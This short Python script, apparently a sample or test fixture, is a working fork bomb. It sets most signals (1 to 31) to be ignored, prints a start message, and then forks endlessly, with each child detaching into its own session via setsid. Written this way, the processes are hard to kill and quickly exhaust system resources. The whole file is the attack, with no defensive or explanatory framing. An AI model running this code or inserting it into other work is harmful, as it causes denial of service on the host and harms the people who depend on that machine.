# Forks without end, in sessions of their own, deaf to every signal that one can be deaf to.
from trying import *

for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
say("held begun")
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
